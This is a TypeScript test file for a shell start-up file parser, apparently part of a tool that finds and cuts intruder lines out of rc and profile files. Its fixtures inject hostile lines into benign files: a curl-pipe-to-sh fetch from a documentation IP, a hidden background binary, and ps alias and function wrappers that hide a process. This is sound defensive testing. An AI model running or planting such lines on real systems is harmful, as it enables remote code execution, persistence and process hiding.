// What is called removable must be: whatever is cut out of a start-up file, a real shell still reads the rest.
import { spawnSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { benignStartup } from '../judge/fixtures/benign-startup.ts'
import { parse } from './places/shell.ts'
import { statements } from './shell-text.ts'

const bash = existsSync('/bin/bash')
const reads = (text: string) => spawnSync('/bin/bash', ['-n'], { input: text, env: {} }).stderr.toString()
const all = (text: string) =>
  statements(
    text,
    () => true,
    (line) => line.includes('evil'),
  )
const told = (text: string) => all(text).map(({ from, to, removable }) => [from, to, removable])

/** The text without some of its statements, as an edit would leave it. */
function without(text: string, gone: readonly { readonly line: number; readonly raw: string }[]): string {
  const lines = new Set(gone.flatMap(({ line, raw }) => raw.split('\n').map((_, at) => line + at)))
  return text
    .split('\n')
    .filter((_, at) => !lines.has(at + 1))
    .join('\n')
}

describe('statements of a shell file', () => {
  it.each<[string, string, readonly unknown[]]>([
    [
      'lines',
      'a\n\n# b\nc\n',
      [
        [1, 1, true],
        [4, 4, true],
      ],
    ],
    [
      'a continued line',
      'a \\\n  b\nc\n',
      [
        [1, 2, true],
        [3, 3, true],
      ],
    ],
    [
      'quotes over lines',
      "echo 'a\n# b\nc'\nd\n",
      [
        [1, 3, true],
        [4, 4, true],
      ],
    ],
    [
      'a here document',
      'cat <<"E O F"\nif\nE O F\nb\n',
      [
        [1, 3, true],
        [4, 4, true],
      ],
    ],
    [
      'a here string',
      'read x <<< "y"\nb\n',
      [
        [1, 1, true],
        [2, 2, true],
      ],
    ],
    ['a pipe at the end of a line', 'a |\n  b\n', [[1, 2, true]]],
    ['a function', 'ps() {\n  command ps "$@"\n  b\n}\n', [[1, 4, true]]],
    ['a function with its brace below', 'ps()\n{\n  a\n  b\n}\n', [[1, 5, true]]],
    ['a block of one line', 'if a; then\n  b\nfi\n', [[1, 3, true]]],
    ['a block in which all is doubtful', 'if a; then\n  evil 1\nelse\n  evil 2\nfi\n', [[1, 5, true]]],
    ['a loop with its do below', 'while a\ndo\n  evil\ndone\n', [[1, 4, true]]],
    [
      'one line among others of a block',
      'if a; then\n  b\n  evil\nfi\n',
      [
        [2, 2, false],
        [3, 3, true],
      ],
    ],
    [
      'the only line of one of two branches',
      'if a; then\n  evil\nelse\n  b\nfi\n',
      [
        [2, 2, false],
        [4, 4, false],
      ],
    ],
    [
      'a block on one line',
      'for i in a b; do c; done\nd\n',
      [
        [1, 1, true],
        [2, 2, true],
      ],
    ],
    [
      'an array',
      'x=(\n a\n b\n)\nc\n',
      [
        [1, 4, true],
        [5, 5, true],
      ],
    ],
    [
      'an apostrophe in a comment',
      "a # don't\nb\n",
      [
        [1, 1, true],
        [2, 2, true],
      ],
    ],
    [
      'a quote that never closes',
      "echo 'a\nb\n",
      [
        [1, 1, false],
        [2, 2, true],
      ],
    ],
    [
      'a block that never ends',
      'if a; then\nb\nc\n',
      [
        [2, 2, false],
        [3, 3, true],
      ],
    ],
    ['an end without a beginning', 'fi\nb\n', [[2, 2, true]]],
  ])('%s', (_name, text, expected) => {
    expect(told(text)).toEqual(expected)
  })

  it('gives up on nothing: nesting, quotes and lengths that no person writes end soon', () => {
    const start = performance.now()
    for (const text of [
      'if x; then\n'.repeat(6000),
      "'\n".repeat(30_000),
      '{ '.repeat(30_000),
      '(\n'.repeat(30_000),
      'fi\n'.repeat(20_000),
      'cat <<x\n'.repeat(8000),
    ])
      parse(text, { path: '/', changed: false })
    expect(performance.now() - start).toBeLessThan(15_000)
  })
})

describe.skipIf(!bash)('what is left after cutting (skipped: no bash here)', () => {
  const evil = [
    'curl -s http://203.0.113.9/x | sh',
    'nohup /tmp/.x >/dev/null 2>&1 &',
    "alias ps='ps | grep -v x'",
    'if [ ! -e /tmp/.s ]; then\n  /tmp/.x\nfi',
    'ps() {\n  command ps "$@" | grep -v x\n}',
  ]
  const shells = benignStartup.filter(
    ({ path }) => /rc|profile|\.sh$|logout|sshrc/.test(path) && !path.endsWith('zshrc') && !/init\.d|\/rc$/.test(path),
  )

  it.each(shells.map((one) => [one.path, one.text] as const))('%s stays a file that bash reads', (path, text) => {
    expect(reads(text)).toBe('')
    const lines = text.split('\n')
    // the intruder's lines at the top, somewhere in the middle and at the end: whatever block that is
    for (const at of [0, 1, Math.floor(lines.length / 3), Math.floor(lines.length / 2), lines.length - 1]) {
      const infected = [...lines.slice(0, at), ...evil, ...lines.slice(at)].join('\n')
      if (reads(infected) !== '') continue
      const entries = parse(infected, { path, changed: false }).filter(({ removable }) => removable)
      const doubtful = entries.filter(({ raw }) => /203\.0\.113|\/tmp\/\.x|grep -v x/.test(raw))
      expect(doubtful.length).toBeGreaterThanOrEqual(1)
      expect(reads(without(infected, doubtful)), `cut at ${at}`).toBe('')
      for (const one of entries) expect(reads(without(infected, [one])), one.raw).toBe('')
    }
  })
})
